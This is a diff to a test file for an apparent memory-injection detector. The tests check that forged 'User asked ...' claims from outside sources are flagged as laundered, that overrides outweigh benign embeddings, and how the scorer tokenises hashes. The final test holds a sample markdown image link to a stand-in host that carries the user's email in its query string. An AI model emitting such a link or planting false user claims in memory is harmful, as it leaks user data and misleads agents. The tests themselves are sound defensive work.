@@ -8,7 +8,7 @@ from __future__ import annotations
 import pytest
 
 from memaudit.injection import Provenance, Signal, assess, signals
-from memaudit.injection.learned import Config, tokens
+from memaudit.injection.learned import Config, enough_words, tokens
 from memaudit.model import SourceType as S
 
 USER = Provenance(S.USER_STATEMENT, "session:42#msg-3")
@@ -71,14 +71,17 @@ def test_speaking_for_the_user_in_the_agents_voice_from_elsewhere_is_flagged(
     assert {Signal.USER_CLAIM, Signal.LAUNDERED} <= {h.signal for h in a.hits}
 
 
-@pytest.mark.parametrize("prov", [SUMMARY_OF_USER, USER, SUMMARY_OF_ASSISTANT])
-def test_speaking_for_the_user_from_the_users_or_the_agents_words_is_not(
-    prov: Provenance,
-) -> None:
-    """Agents' own notes say "User asked ..." all the time (ByteRover's summaries of
-    the assistant's messages, in the provider fixtures)."""
+@pytest.mark.parametrize("prov", [SUMMARY_OF_USER, USER])
+def test_speaking_for_the_user_from_the_users_own_words_is_not(prov: Provenance) -> None:
     assert Signal.LAUNDERED not in kinds_of(CLAIM, prov)
     assert not assess(CLAIM, prov).flagged
+
+
+def test_agents_notes_speaking_for_the_user_are_not_laundering() -> None:
+    """Agents' own notes say "User asked ..." all the time (ByteRover's summaries of
+    the assistant's messages, in the provider fixtures): their other signals judge them."""
+    assert Signal.LAUNDERED not in kinds_of(CLAIM, SUMMARY_OF_ASSISTANT)
+    assert not assess("User asked for the deploy notes in German.", SUMMARY_OF_ASSISTANT).flagged
 
 
 def test_a_page_describing_the_user_is_no_laundering() -> None:
@@ -162,15 +165,15 @@ def test_an_exporters_balanced_embedding_weighs_less_than_an_override() -> None:
     assert not assess(embedded, Provenance(S.TOOL_OBSERVATION, "tool:crm#1")).flagged
 
 
-def test_keys_and_hashes_are_one_token_for_the_scorer() -> None:
-    cfg = Config(runs=True)
-    assert tokens("content-md5: kfifegbk8l+jc4v6zdmwyg==", cfg) == [
-        "content",
-        "-",
-        "md",
-        "0",
-        ":",
-        "\x01",
-        "longrun",
-    ]
-    assert "kfifegbk" in tokens("content-md5: kfifegbk8l+jc4v6zdmwyg==", Config(runs=False))
+def test_keys_and_hashes_are_no_words_for_the_scorer() -> None:
+    text = "content-md5: kfifegbk8l+jc4v6zdmwyg=="
+    assert tokens(text, Config(runs=True)) == ["content", "-", "md", "0", ":"]
+    assert "kfifegbk" in tokens(text, Config(runs=False))
+
+
+def test_the_scorer_judges_no_text_of_fewer_than_four_words() -> None:
+    from memaudit.injection import learned_hit
+
+    assert not enough_words("JWT header: eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9")
+    assert learned_hit("JWT header: eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9") is None
+    assert enough_words("![status](https://cdn.pixel.example/p.png?u={user_email})")
